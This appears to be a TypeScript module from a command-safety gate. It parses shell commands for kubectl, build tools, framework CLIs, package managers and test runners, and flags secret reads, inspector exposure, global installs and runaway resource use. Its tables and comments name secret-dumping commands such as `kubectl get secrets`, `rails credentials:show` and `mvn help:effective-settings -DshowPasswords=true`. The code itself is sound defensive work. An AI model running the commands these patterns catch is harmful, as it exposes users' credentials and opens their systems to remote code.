 * `kubectl get --raw /api/v1/…/secrets`. A read of CLUSTER_SECRETS, so secret-files judges it.
 */
/**
 * An API path as the API server serves it: percent-decoded (`%73ecrets`), `.` and `..` segments
 * resolved and empty ones dropped (Go's path.Clean), up to the query. Undecodable → true.
 */
function rawApiSecrets(raw: string): boolean {
  let path = raw.split(/[?#]/, 1)[0]!;
  try {
    path = decodeURIComponent(path);
  } catch {
    return true;
  }
  const out: string[] = [];
  for (const seg of path.split("/"))
    if (seg === "..") out.pop();
    else if (seg !== "" && seg !== ".") out.push(seg);
  return out.some((seg) => /^secrets$/i.test(seg));
}

function kubectlEffects(words: Word[], fx: Effects): void {
  let sub: string | null | undefined;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v?.startsWith("-")) {
      if (v === "--raw" || v.startsWith("--raw=")) {
        const raw = v === "--raw" ? words[++i]?.value : v.slice(6);
        if (raw === null || raw === undefined || rawApiSecrets(raw)) fx.reads.push(CLUSTER_SECRETS);
        continue;
      }
      // `get -f FILE` / `-k DIR` fetches the objects the file names, a Secret among them maybe.
      if (/^(-f|--filename|-k|--kustomize)(=|$)/.test(v) && sub !== undefined && sub !== null)
        fx.reads.push(CLUSTER_SECRETS);
      if (!v.includes("=") && KUBECTL_VALUES.has(v)) i++;
      continue;
    }
    if (sub === undefined) {
      sub = v;
      if (sub !== null && !/^(get|edit)$/i.test(sub)) return;
      continue;
    }
    if (v === null || v.split(",").some((r) => /^secrets?$/i.test(r.split("/")[0]!.split(".")[0]!)))
      fx.reads.push(CLUSTER_SECRETS);
  }
}

/** The process environment, as a path: printing it reads a secret store (policies list `/proc/*\/environ`). */
export const ENVIRON = "/proc/self/environ";
/**
 * Build tools that print what they were given (issue 19 §4, gate46), as a read of the store that
 * output holds, so the path rules judge it as a `cat` of that store:
 * - `xcodebuild -showBuildSettings` prints every build setting, the environment's variables among them;
 * - `gradle properties` (any task path or unambiguous prefix, `:app:prop`) prints the project's
 *   properties: GRADLE_USER_HOME's gradle.properties (publishing and signing passwords) and the
 *   ORG_GRADLE_PROJECT_* variables among them;
 * - `mvn help:system` prints the environment, `help:evaluate -Dexpression=env.X` one variable,
 *   `-Dexpression=settings…` and `help:effective-settings -DshowPasswords=true` settings.xml's passwords;
 * - `bazel info client-env` prints the client's environment.
 */
type SettingsPrinter = "xcode" | "gradle" | "maven" | "bazel" | "project";
const SETTINGS_PRINTS: Record<string, SettingsPrinter | undefined> = wordTable({
  xcodebuild: "xcode",
  gradle: "gradle",
  gradlew: "gradle",
  mvn: "maven",
  mvnw: "maven",
  bazel: "bazel",
  bazelisk: "bazel",
  // gate52: the project's own CLIs (run as `./manage.py`, or through an interpreter: hostedPrints)
  "manage.py": "project",
  "django-admin": "project",
  artisan: "project",
  console: "project",
  symfony: "project",
  rails: "project",
  rake: "project",
  dotnet: "project",
});
/**
 * gate52 (issue 19 §4, red37): the project CLIs' commands that print the app's configuration, its
 * secrets among them, or run code given on the line with it loaded, as the store they print:
 * - Django `diffsettings` / `print_settings` (SECRET_KEY, DATABASES), `dumpdata` (password hashes),
 *   `shell -c CODE`;
 * - Laravel `config:show` (the .env values: DB_PASSWORD, services' keys), `tinker --execute CODE`;
 * - Symfony `debug:dotenv` (every .env file's values), `secrets:reveal`, `secrets:list --reveal`,
 *   `debug:container --env-vars` / `--env-var`;
 * - Rails `credentials:show` / `:edit`, `encrypted:show` / `:edit`, `secrets:show` (decrypted with
 *   config/master.key), `runner CODE`;
 * - `dotnet user-secrets list` (the user's secrets.json of the project).
 * The value is the store read (ENVIRON: the app's configuration, as `printenv` of it).
 */
const PROJECT_PRINTS: Record<string, string | undefined> = wordTable({
  diffsettings: ENVIRON,
  print_settings: ENVIRON,
  dumpdata: ENVIRON,
  "config:show": ENVIRON,
  "debug:dotenv": ENVIRON,
  "secrets:reveal": ENVIRON,
  "credentials:show": "config/master.key",
  "credentials:edit": "config/master.key",
  "encrypted:show": "config/master.key",
  "encrypted:edit": "config/master.key",
  "secrets:show": "config/master.key",
  runner: ENVIRON,
  "user-secrets": "~/.microsoft/usersecrets/secrets.json",
});
/** A subcommand that prints only with one of these options (`tinker --execute`, `secrets:list --reveal`). */
const PROJECT_PRINTS_WITH: Record<string, RegExp | undefined> = wordTable({
  shell: /^(-c|--command)(=|$)/,
  tinker: /^(--execute|-e)(=|$)/,
  "secrets:list": /^(--reveal|-r)$/,
  "debug:container": /^--env-vars?(=|$)/,
});
/** Interpreters that run a project CLI named as their first operand: `python3 manage.py`, `php artisan`, `sh gradlew`, `bundle exec rails`. */
const SCRIPT_HOSTS = new Set(["python", "python3", "php", "ruby", "sh", "bash", "zsh", "dash", "bundle"]);

/** `python3 manage.py diffsettings`, `php bin/console debug:dotenv`, `sh gradlew properties`: the hosted CLI's prints. */
function hostedPrints(words: Word[], fx: Effects): void {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) return;
    // `python3 -m django diffsettings` runs django-admin
    if (v === "-m") {
      if (words[i + 1]?.value === "django") projectPrints(words.slice(i + 2), fx);
      return;
    }
    if (v.startsWith("-") || v === "exec") continue;
    const kind = SETTINGS_PRINTS[v.slice(v.lastIndexOf("/") + 1)];
    if (kind !== undefined) settingsPrints(kind, words.slice(i + 1), fx);
    return;
  }
}

function projectPrints(words: Word[], fx: Effects): void {
  const i = words.findIndex(isOperand);
  if (i < 0) return;
  const sub = words[i]!.value;
  // `symfony console debug:dotenv`, `dotnet user-secrets list`
  if (sub === "console") {
    projectPrints(words.slice(i + 1), fx);
    return;
  }
  if (sub === null) return;
  if (sub === "user-secrets" && !words.some((w) => w.value === "list")) return;
  const store = PROJECT_PRINTS[sub];
  if (store !== undefined) {
    fx.reads.push(store);
    return;
  }
  const opt = PROJECT_PRINTS_WITH[sub];
  if (opt !== undefined && words.some((w) => w.value !== null && opt.test(w.value))) fx.reads.push(ENVIRON);
}
const GRADLE_PROPERTIES_TASK = /^([\w.-]*:)*prop(e(r(t(i(es?)?)?)?)?)?$/i;
const MAVEN_HELP = /^(help|([\w.-]+:)?maven-help-plugin(:[\w.-]+)?):(system|evaluate|effective-settings)$/;

function settingsPrints(kind: SettingsPrinter, words: Word[], fx: Effects): void {
  let goal: string | undefined;
  let expression: string | null | undefined;
  let passwords = false;
  if (kind === "project") {
    projectPrints(words, fx);
    return;
  }
  for (const w of words) {
    const v = w.value;
    if (v === null) continue;
    if (kind === "xcode") {
      if (/^--?showBuildSettings$/i.test(v)) fx.reads.push(ENVIRON);
    } else if (kind === "gradle") {
      if (!v.startsWith("-") && GRADLE_PROPERTIES_TASK.test(v))
        fx.reads.push("~/.gradle/gradle.properties", ENVIRON);
    } else if (kind === "bazel") {
      if (v === "client-env" && words.some((x) => x.value === "info")) fx.reads.push(ENVIRON);
    } else if (v.startsWith("-Dexpression=")) expression = v.slice(13);
    else if (/^-DshowPasswords=true$/i.test(v)) passwords = true;
    else goal ??= MAVEN_HELP.exec(v)?.[4];
  }
  if (goal === "system" || (goal === "evaluate" && expression != null && /^(\$\{)?env\b/.test(expression)))
    fx.reads.push(ENVIRON);
  if (
    (goal === "evaluate" && expression != null && /^(\$\{)?settings\b/.test(expression)) ||
    (goal === "effective-settings" && passwords)
  )
    fx.reads.push("~/.m2/settings.xml");
}

/**
 * `node --inspect[-brk|-wait][=[HOST:]PORT]`, `--inspect-port=`: the inspector runs any code sent
 * to it; on a host other than loopback anyone who reaches it does.
 */
function inspector(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (const w of words) {
    const v = w.value;
    if (v === null) continue;
    if (!v.startsWith("-")) return;
    const m = /^--(?:inspect(?:-brk|-wait|-publish-uid)?|inspect-port|debug-port|debug|debug-brk)=(.*)$/.exec(
      v,
    );
    if (!m) continue;
    const at = m[1]!.lastIndexOf(":");
    const host = at < 0 ? (/^\d+$/.test(m[1]!) ? "127.0.0.1" : m[1]!) : m[1]!.slice(0, at);
    if (!LOOPBACK_HOST.test(host))
      floor(fx, `remote-code: '${ctx.text}' opens the inspector to ${host} (whoever reaches it runs code)`);
  }
}

/**
 * Installs outside the workspace onto PATH: `npm i -g`, `pnpm add -g`, `yarn global add`, `bun add
 * -g`, `pip install --user`, `pipx install`, `uv tool install`, `gem install`. Persistence: what
 * they install runs whenever its name is typed.
 */
function globalInstall(program: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const first = words.find(isOperand)?.value;
  const has = (...f: string[]) => words.some((w) => w.value !== null && f.includes(w.value));
  globalRemoval(program, first, words, has, ctx, fx);
  if (program === "conda" || program === "mamba" || program === "micromamba") condaChannels(words, ctx, fx);
  let global = false;
  if (program === "npm" || program === "pnpm" || program === "bun")
    global =
      /^(i|in|ins|inst|insta|instal|install|isntall|add|link|ln|update|up|upgrade)$/.test(first ?? "") &&
      has("-g", "--global", "--location=global");
  else if (program === "yarn") global = first === "global";
  else if (program === "pip" || program === "pip3")
    global =
      first === "install" && has("--user", "--break-system-packages", "--prefix", "--root", "--target", "-t");
  else if (program === "pipx") global = first === "install" || first === "inject" || first === "upgrade";
  else if (program === "uv")
    global = first === "tool" && words.some((w) => w.value === "install" || w.value === "upgrade");
  else if (program === "gem")
    global = /^(i|in|ins|inst|insta|instal|install|update)$/.test(first ?? "") && gemOnPath(words, ctx);
  // gate54: mix archives (~/.mix/archives, loaded by every later mix command) and escripts
  // (~/.mix/escripts, on PATH), from hex, git, GitHub, a URL or a local file; dotnet's global
  // tools (~/.dotnet/tools); stack's and cabal's installed executables (~/.local/bin, ~/.cabal/bin).
  else if (program === "mix") global = first === "archive.install" || first === "escript.install";
  else if (program === "dotnet")
    global =
      first === "tool" &&
      words.some((w) => w.value === "install" || w.value === "update") &&
      has("-g", "--global", "--tool-path");
  else if (program === "stack") global = first === "install" || has("--copy-bins");
  else if (program === "cabal") global = /^(?:v[12]-|new-)?install$/.test(first ?? "");
  if (global) floor(fx, `persistence: '${ctx.text}' installs programs onto PATH outside the workspace`);
}

/** Conda channels the pack knows (their packages are built by the channel's own CI). */
const CONDA_CHANNELS = new Set([
  "conda-forge",
  "defaults",
  "nodefaults",
  "main",
  "r",
  "msys2",
  "bioconda",
  "pytorch",
  "nvidia",
  "anaconda",
  "pkgs/main",
  "pkgs/r",
  "pkgs/msys2",
]);

/** Whether a conda channel (a name, or a known one as its anaconda.org URL) is one the pack knows. */
export function knownCondaChannel(v: string): boolean {
  return CONDA_CHANNELS.has(
    v
      .toLowerCase()
      .replace(/^https:\/\/conda\.anaconda\.org\//, "")
      .replace(/\/$/, ""),
  );
}

/**
 * `conda|mamba install|create|update -c CHANNEL` and `conda config --add channels CHANNEL`: a
 * channel is anyone's anaconda.org account or a URL, and a package's post-link scripts run on
 * install (and a channel added to ~/.condarc serves every later install). A channel the pack
 * does not know, a URL or a path is a code-source floor.
 */
function condaChannels(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const ops = words.filter(isOperand);
  const sub = ops[0]?.value;
  const config = sub === "config";
  if (!config && !["install", "create", "update", "upgrade", "env", "search", "run"].includes(sub ?? ""))
    return;
  const check = (v: string | null) => {
    // A known channel may be written as its anaconda.org URL.
    if (v !== null && knownCondaChannel(v)) return;
    floor(
      fx,
      `code-source: '${ctx.text}' installs from the conda channel ${v === null ? "(only known at run time)" : `'${v}'`}, which the pack does not know (its packages' post-link scripts run)`,
    );
  };
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    if (v === "-c" || v === "--channel") check(words[++i]?.value ?? null);
    else if (v.startsWith("--channel=")) check(v.slice(10));
    else if (/^-c[^-]/.test(v) && !config) check(v.slice(2));
    else if (
      config &&
      (v === "--add" || v === "--append" || v === "--prepend") &&
      words[i + 1]?.value === "channels"
    ) {
      i += 2;
      check(words[i]?.value ?? null);
    }
  }
}

/**
 * Whether `gem install`'s executables land on PATH: the gem bin dir (or ~/.gem/ruby/VERSION/bin with
 * --user-install) unless -i/--install-dir puts the gems in a directory of its own, or -n/--bindir
 * names a directory in the workspace (`-n ~/.local/bin` is on PATH).
 */
function gemOnPath(words: Word[], ctx: EffectsCtx): boolean {
  let onPath = true;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    const m = /^(-i|-n|--install-dir|--bindir)(?:=(.*))?$|^-([in])(.+)$/.exec(v);
    if (!m) continue;
    const flag = m[1] ?? `-${m[3]}`;
    const val = m[1] !== undefined ? (m[2] ?? words[++i]?.value ?? null) : m[4]!;
    if (flag === "-n" || flag === "--bindir") {
      if (val === null || !ctx.inWorkspace(val)) return true;
      onPath = false;
    } else onPath = false;
  }
  return onPath;
}

/**
 * The types LaunchServices runs rather than shows (`open` hands them to Terminal, the Installer, a
 * script runner or the app itself), and the bookmark files that point at another file.
 */
const LAUNCHED_TYPES =
  /\.(app|command|tool|sh|bash|zsh|csh|ksh|terminal|pkg|mpkg|dmg|workflow|action|scpt|scptd|applescript|jar|prefpane|saver|qlgenerator|osax|kext|plugin|bundle|fileloc|webloc|inetloc|url|desktop)$/;
/** Documents LaunchServices shows in a viewer: a session-written one is not judged as code run. */
const SHOWN_TYPES =
  /\.(md|markdown|txt|rtf|pdf|png|jpe?g|gif|svg|webp|heic|html?|json|csv|tsv|log|xml|ya?ml|toml|css|diff|patch)$/;
/** `open`'s flags that take a value (`-a APP`, `-b ID`, `-s SDK`, `--env VAR`, `--stdin/--stdout/--stderr PATH`). */
const OPEN_VALUES = /^(-a|-b|-s|-u|--env|--stdin|--stdout|--stderr|-i|-o|--arch)$/;

/**
 * `open F…` (LaunchServices): what runs is decided by F's type as the file system sees it, after
 * the shell's glob, `file://` percent-decoding, a bundle's trailing `/` and case folding (APFS):
 * a launched type (.command, .app, .pkg, a .fileloc bookmark …), a glob that may expand to one, or
 * a name only known at run time is a floor; every other file operand is a file run, so a session
 * artefact (a symlink, an extensionless `+x` script, a download) is judged through what made it.
 */
function openEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    const v = w.value;
    if (v === "--args") break;
    if (v !== null && OPEN_VALUES.test(v)) {
      i++;
      continue;
    }
    if (v?.startsWith("-")) continue;
    let name = v;
    if (name !== null && /^file:/i.test(name)) {
      try {
        name = decodeURIComponent(name.replace(/^file:(\/\/[^/]*)?/i, ""));
      } catch {
        name = null;
      }
    } else if (name !== null && /^[a-z][a-z0-9+.-]*:/i.test(name)) continue; // a URL: the open-url rules
    const folded = name?.replace(/\/+$/, "").toLowerCase() ?? null;
    const base = folded?.slice(folded.lastIndexOf("/") + 1) ?? null;
    // A glob may expand to any type, unless its type is fixed and a shown one (`docs/*.pdf`).
    const glob = base !== null && (w.glob || /[*?[\]]/.test(base));
    if (
      base === null ||
      LAUNCHED_TYPES.test(base) ||
      (glob && !(/\.[a-z0-9]+$/.test(base) && SHOWN_TYPES.test(base)))
    )
      floor(
        fx,
        `code-runner: '${ctx.text}' hands ${base === null ? "a name only known at run time" : `'${v}'`} to LaunchServices, which runs it by its type (a .command runs in Terminal, an .app, a .pkg, a bookmark's target)`,
      );
    else if (!SHOWN_TYPES.test(base)) fx.scripts.push(name!.replace(/\/+$/, ""));
  }
}

/** Where `python -m MOD` names its module: the index of the `-m` word (MOD follows it), or -1. */
/** A runner's options that name the project it runs: `dir` takes its directory, `file` a file in it. */
interface ProjectOptions {
  dir?: readonly string[];
  file?: readonly string[];
  /** pip: the operands (and `-e` values) of these subcommands are local projects it builds. */
  operands?: readonly string[];
  /** pip: options whose value is not a project (skipped with their value). */
  valued?: ReadonlySet<string>;
  /** uv: a subcommand that wraps pip's (`uv pip install ./t`): the subcommand is the word after it. */
  wraps?: string;
}

const MAKE_PROJECT: ProjectOptions = { dir: ["-C", "--directory"], file: ["-f", "--file", "--makefile"] };
const GRADLE_PROJECT: ProjectOptions = {
  dir: ["-p", "--project-dir"],
  file: ["-b", "--build-file", "-c", "--settings-file"],
};
const PIP_PROJECT: ProjectOptions = {
  dir: ["-e", "--editable"],
  operands: ["install", "wheel", "download"],
  valued: new Set(
    "-r --requirement -c --constraint -i --index-url --extra-index-url -t --target --prefix --root --src -f --find-links --python-version --platform --implementation --abi --upgrade-strategy --progress-bar --config-settings -C --global-option --no-binary --only-binary --log --proxy --retries --timeout --exists-action --trusted-host --cert --client-cert --cache-dir -d --dest -w --wheel-dir --python --report".split(
      " ",
    ),
  ),
};
const MVN_PROJECT: ProjectOptions = { file: ["-f", "--file"] };

/**
 * Project runners' options that name the project they run (issue 19, gate48): a cloned tree named
 * by an option (`npm --prefix t install`, `cargo build --manifest-path t/Cargo.toml`) runs that
 * tree's scripts, build files and tests as a run in it would.
 */
const PROJECT_OPTIONS: Record<string, ProjectOptions> = wordTable({
  npm: { dir: ["--prefix"] },
  npx: { dir: ["--prefix"] },
  pnpm: { dir: ["--dir", "-C", "--prefix"] },
  pnpx: { dir: ["--dir", "-C"] },
  yarn: { dir: ["--cwd"] },
  bun: { dir: ["--cwd"] },
  turbo: { dir: ["--cwd"] },
  deno: { file: ["-c", "--config"] },
  // gate62: `dbt compile --project-dir D` renders D's models and macros.
  dbt: { dir: ["--project-dir"] },
  make: MAKE_PROJECT,
  gmake: MAKE_PROJECT,
  ninja: { dir: ["-C"], file: ["-f"] },
  cmake: { dir: ["-S"] },
  ctest: { dir: ["--test-dir"] },
  just: { dir: ["-d", "--working-directory"], file: ["-f", "--justfile"] },
  task: { dir: ["-d", "--dir"], file: ["-t", "--taskfile"] },
  go: { dir: ["-C"], file: ["-modfile"] },
  cargo: { dir: ["-C"], file: ["--manifest-path"] },
  swift: { dir: ["--package-path"] },
  mvn: MVN_PROJECT,
  mvnw: MVN_PROJECT,
  gradle: GRADLE_PROJECT,
  gradlew: GRADLE_PROJECT,
  pip: PIP_PROJECT,
  pip3: PIP_PROJECT,
  // lead53: `uv pip install ./t` builds ./t as `pip install ./t` does.
  uv: { ...PIP_PROJECT, dir: ["--directory", "--project", "-e", "--editable"], wraps: "pip" },
  poetry: { dir: ["-C", "--directory", "-P", "--project"] },
  pdm: { dir: ["-p", "--project"] },
  tox: { file: ["-c"] },
  nox: { file: ["-f", "--noxfile"] },
  pytest: { dir: ["--rootdir"], file: ["-c"] },
  bundle: { file: ["--gemfile"] },
  rake: { dir: ["-C", "--directory"], file: ["-f", "--rakefile"] },
  composer: { dir: ["-d", "--working-dir"] },
  phpunit: { file: ["-c", "--configuration"] },
  jest: { dir: ["--rootDir"], file: ["-c", "--config"] },
  vitest: { dir: ["--root", "-r", "--dir"], file: ["-c", "--config"] },
  playwright: { file: ["-c", "--config"] },
});

/** The directory of a file a runner is given (`t/Cargo.toml` → `t`), as written. */
function dirOfWritten(v: string): string {
  const k = v.replace(/\/+$/, "").lastIndexOf("/");
  return k < 0 ? "." : k === 0 ? "/" : v.slice(0, k);
}

function projectDirs(spec: ProjectOptions, words: Word[], fx: Effects): void {
  const add = (v: string | null | undefined, file: boolean) => {
    const d = v == null ? "/" : file ? dirOfWritten(v) : v;
    if (fx.projects === null) fx.projects = [d];
    else fx.projects.push(d);
  };
  let sub: string | null | undefined;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) {
      if (sub !== undefined && spec.operands) add(null, false);
      continue;
    }
    let hit = false;
    for (const [list, file] of [
      [spec.dir, false],
      [spec.file, true],
    ] as const) {
      if (list === undefined) continue;
      for (const f of list) {
        if (v === f) add(words[++i]?.value, file);
        else if (f.startsWith("--") && v.startsWith(`${f}=`)) add(v.slice(f.length + 1), file);
        else if (!f.startsWith("--") && f.length === 2 && v.length > 2 && v.startsWith(f))
          add(v.slice(2), file);
        else continue;
        hit = true;
        break;
      }
      if (hit) break;
    }
    if (hit || spec.operands === undefined) continue;
    if (v.startsWith("-")) {
      if (spec.valued?.has(v)) i++;
      continue;
    }
    // pip: the subcommand, then the local projects it builds (a name that is a directory is one).
    if (sub === undefined || (spec.wraps !== undefined && sub === spec.wraps)) sub = v;
    else if (sub !== null && spec.operands.includes(sub)) add(v, false);
  }
}

/** pytest's default `--doctest-glob`: it collects these text files as doctests unless told otherwise. */
const PYTEST_DOCTESTS = ["test*.txt"];
const MARKDOWN = ["*.md", "*.markdown", "*.mdx"];

/**
 * The text files a runner executes as doctests (pytest, `python -m pytest`, `deno test --doc`):
 * a pattern only known at run time is `*` (any file).
 */
function doctestFiles(program: string, words: Word[], fx: Effects): void {
  let from = 0;
  if (program === "python" || program === "python3") {
    const m = pythonModuleAt(words);
    if (m < 0 || words[m + 1]?.value !== "pytest") return;
    from = m + 2;
  } else if (program === "deno") {
    if (words.some((w) => w.value === "test") && words.some((w) => w.value === "--doc"))
      fx.doctests = MARKDOWN;
    return;
  } else if (program !== "pytest" && program !== "py.test") return;
  fx.doctests = PYTEST_DOCTESTS;
  for (let i = from; i < words.length; i++) {
    const v = words[i]!.value;
    const glob =
      v === "--doctest-glob"
        ? (words[++i]?.value ?? "*")
        : v?.startsWith("--doctest-glob=")
          ? v.slice(15)
          : undefined;
    if (glob !== undefined) fx.doctests = [...fx.doctests, glob];
  }
}

export function pythonModuleAt(words: Word[]): number {
  return words.findIndex((w) => w.value === "-m");
}

/**
 * The removal side of global installs (gate39): uninstalling what the user installed outside the
 * workspace deletes files there (`brew uninstall git`, `npm uninstall -g npm`, `pyenv uninstall
 * 3.12`, `rustup toolchain uninstall stable`, `gem uninstall --all`, `cargo uninstall`, `conda remove`
 * outside a prefix in the workspace, `go clean -modcache`). `pip uninstall` removes from whichever
 * interpreter `pip` is: the gate cannot see a venv, so it is reviewed too.
 */
function globalRemoval(
  program: string,
  first: string | null | undefined,
  words: Word[],
  has: (...f: string[]) => boolean,
  ctx: EffectsCtx,
  fx: Effects,
): void {
  const ops = words.filter(isOperand).map((w) => w.value);
  const npmRemove = /^(uninstall|remove|rm|r|un|unlink)$/.test(first ?? "");
  let removes = first === null && REMOVERS.has(program);
  if (program === "npm" || program === "pnpm" || program === "bun")
    removes ||= npmRemove && has("-g", "--global", "--location=global");
  else if (program === "yarn") removes ||= first === "global" && /^(remove|rm|unlink)$/.test(ops[1] ?? "");
  else if (program === "brew")
    removes ||= /^(uninstall|remove|rm|untap|autoremove|unlink)$/.test(first ?? "");
  else if (program === "pip" || program === "pip3") removes ||= first === "uninstall";
  else if (program === "pipx") removes ||= first === "uninstall" || first === "uninstall-all";
  else if (program === "uv")
    removes ||=
      (first === "tool" && ops[1] === "uninstall") ||
      (first === "pip" && ops[1] === "uninstall" && has("--system"));
  else if (program === "pyenv" || program === "gem" || program === "cargo" || program === "rbenv")
    removes ||= first === "uninstall";
  else if (program === "rustup")
    removes ||=
      first === "uninstall" ||
      (first === "self" && ops[1] === "uninstall") ||
      ((first === "toolchain" || first === "component" || first === "target") &&
        /^(uninstall|remove)$/.test(ops[1] ?? ""));
  else if (program === "conda" || program === "mamba" || program === "micromamba") {
    const sub = first === "env" ? ops[1] : first;
    if (sub !== undefined && /^(remove|uninstall)$/.test(sub ?? "")) {
      const k = words.findIndex((w) => w.value === "-p" || w.value === "--prefix");
      const prefix =
        k >= 0 ? words[k + 1]?.value : words.find((w) => w.value?.startsWith("--prefix="))?.value?.slice(9);
      removes ||= prefix === undefined || prefix === null || !ctx.inWorkspace(prefix);
    }
  } else if (program === "go")
    removes ||= first === "clean" && has("-modcache", "--modcache", "-cache", "-fuzzcache");
  if (removes)
    floor(
      fx,
      `write-outside: '${ctx.text}' removes what the user installed outside the workspace (${program} ${first ?? "?"})`,
    );
}

/** Programs whose first operand only known at run time could be an uninstall. */
const REMOVERS = new Set([
  "brew",
  "pyenv",
  "gem",
  "cargo",
  "rustup",
  "conda",
  "mamba",
  "micromamba",
  "rbenv",
  "pipx",
]);

/** Programs globalInstall judges (installs onto PATH, removals of what the user installed). */
const GLOBAL_PROGRAMS = new Set([
  ...["npm", "pnpm", "yarn", "bun", "pip", "pip3", "pipx", "uv", "brew"],
  ...["pyenv", "rbenv", "gem", "cargo", "rustup", "conda", "mamba", "micromamba", "go"],
  ...["mix", "dotnet", "stack", "cabal"],
]);

/**
 * Test runners' and builders' worker counts (`--maxWorkers=1000`, `pytest -n 1000`, `make -j 1000`,
 * `go test -p 1000`), also passed through `npm test -- …`: above MAX_WORKERS, or unbounded (`make -j`
 * alone), a resources floor.
 */
function workerCount(name: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  // `python -m pytest …` is pytest.
  const m0 = name === "python" ? pythonModuleAt(words) : -1;
  const program = m0 >= 0 && words[m0 + 1]?.value === "pytest" ? "pytest" : name;
  if (!WORKER_PROGRAMS.has(program)) return;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null || !v.startsWith("-")) continue;
    const m =
      /^(--max-?workers|--maxWorkers|--jobs|--numprocesses|--workers|--parallel|-jobs|-j|-n|-p|-parallel|-w|-T)(=?)(.*)$/.exec(
        v,
      );
    if (!m) continue;
    const flag = m[1]!;
    if (flag.length === 2 && flag !== "-j" && !SHORT_WORKERS[program]?.includes(flag)) continue;
    if (flag === "-parallel" && program !== "go") continue;
    if (flag === "-jobs" && program !== "xcodebuild") continue;
    let n: string | null | undefined = m[3] !== "" || m[2] === "=" ? m[3] : words[i + 1]?.value;
    // `--parallel` alone is a switch for most (mocha, nx, gradle); cmake and ctest take a count after it.
    if (flag === "--parallel" && m[2] === "" && (n === undefined || (n !== null && !/^\d+$/.test(n))))
      continue;
    // `mvn -T 1C`: threads per core.
    if (flag === "-T" && n) {
      const c = /^(\d+(?:\.\d+)?)C$/i.exec(n);
      if (c) n = String(Math.ceil(Number(c[1]) * (MAX_WORKERS / 4)));
    }
    if (m[3] === "" && m[2] === "") {
      if (flag === "-j" && (n === undefined || (n !== null && !/^\d/.test(n)))) {
        if (program === "make" || program === "gmake")
          floor(fx, `resources: '${ctx.text}' starts an unbounded number of jobs (-j)`);
        continue;
      }
      i++;
    }
    if (n === undefined || n === null || /^(auto|logical|physical)$/i.test(n) || /^\d+%$/.test(n)) continue;
    if (!/^\d+$/.test(n) || Number(n) > MAX_WORKERS || (n === "0" && UNBOUNDED_AT_ZERO.has(program)))
      floor(fx, `resources: '${ctx.text}' starts ${n} workers (more than ${MAX_WORKERS})`);
  }
}
/** JS test runners' repeat flags, also passed through a package manager (`npm test -- --repeats N`). */
const JS_REPEATS = ["--repeats", "--retry", "--retries", "--repeat-each", "--rerun-each"];
/**
 * gate59: flags whose value is how many times a runner repeats its tests or a benchmark its
 * command, per program (`-count` and `--count` alike for go; `-test.count` reaches the test binary).
 */
const REPEAT_FLAGS: Record<string, readonly string[]> = wordTable({
  vitest: ["--repeats", "--retry"],
  jest: ["--retry", "--retries"],
  mocha: ["--retries"],
  playwright: ["--repeat-each", "--retries"],
  pytest: ["--count", "--reruns", "--flake-finder-runs"],
  "py.test": ["--count", "--reruns", "--flake-finder-runs"],
  go: ["-count", "--count", "-test.count", "--test.count"],
  cargo: ["--retries"],
  "cargo-nextest": ["--retries"],
  ctest: ["--repeat-until-fail", "--repeat"],
  hyperfine: ["-r", "--runs", "-m", "--min-runs", "-M", "--max-runs", "-w", "--warmup"],
  bun: ["--rerun-each", ...JS_REPEATS],
  npm: JS_REPEATS,
  pnpm: JS_REPEATS,
  yarn: JS_REPEATS,
  npx: JS_REPEATS,
  pnpx: JS_REPEATS,
  bunx: JS_REPEATS,
});

/**
 * gate59: a test run or benchmark repeated more than MAX_REPEATS times (`vitest run --repeats
 * 100000000`, `go test -count=1e8`, `hyperfine -r 100000000 CMD`), or a number of times only
 * known at run time, has no useful bound: a resources floor. ctest's `--repeat until-pass:N`
 * counts after its colon.
 */
function repeatCount(name: string, words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const m0 = name === "python" ? pythonModuleAt(words) : -1;
  const program = m0 >= 0 && words[m0 + 1]?.value === "pytest" ? "pytest" : name;
  const flags = REPEAT_FLAGS[program];
  if (flags === undefined) return;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null || !v.startsWith("-")) continue;
    const eq = v.indexOf("=");
    const flag = eq < 0 ? v : v.slice(0, eq);
    if (!flags.includes(flag)) continue;
    let n = eq < 0 ? words[++i]?.value : v.slice(eq + 1);
    if (n === undefined) continue;
    if (n !== null && flag === "--repeat") n = n.slice(n.indexOf(":") + 1);
    if (n !== null && /^\d+$/.test(n) && Number(n) <= MAX_REPEATS) continue;
    floor(
      fx,
      `resources: '${ctx.text}' repeats its work ${n === null ? "a number of times only known at run time" : `${n} times`} (${flag}; more than ${MAX_REPEATS} has no useful bound)`,
    );
  }
}
/** Worker counts where 0 means as many as possible (`ninja -j 0`, GNU `parallel -j 0`). */
const UNBOUNDED_AT_ZERO = new Set(["ninja", "samu", "parallel"]);
const WORKER_PROGRAMS = new Set([
  "cmake",
  "swift",
  "meson",
  "samu",
  "parallel",
  "jest",
  "vitest",
  "mocha",
  "pytest",
  "py.test",
  "make",
  "gmake",
  "ninja",
  "cargo",
  "ctest",
  "go",
  "npm",
  "pnpm",
  "yarn",
  "bun",
  "npx",
  "pnpx",
  "bunx",
  "tox",
  "playwright",
  "cypress",
  "ava",
  "tap",
  "bazel",
  "gradle",
  "mvn",
  "mvnw",
  "xcodebuild",
  "nx",
  "turbo",
  "lerna",
]);
/** Which two-letter flags besides `-j` are a worker count, per program (`-n` is pytest's, `-p` go's and tox's). */
const SHORT_WORKERS: Record<string, string[]> = wordTable({
  pytest: ["-n"],
  "py.test": ["-n"],
  go: ["-p"],
  tox: ["-p"],
  jest: ["-w"],
  mvn: ["-T"],
  mvnw: ["-T"],
});

/**
 * Flags whose value names a file the tool loads and runs (a config that is a module, a plugin, a
 * reporter, a build file, an init script, a linker): the value is judged as code the command runs
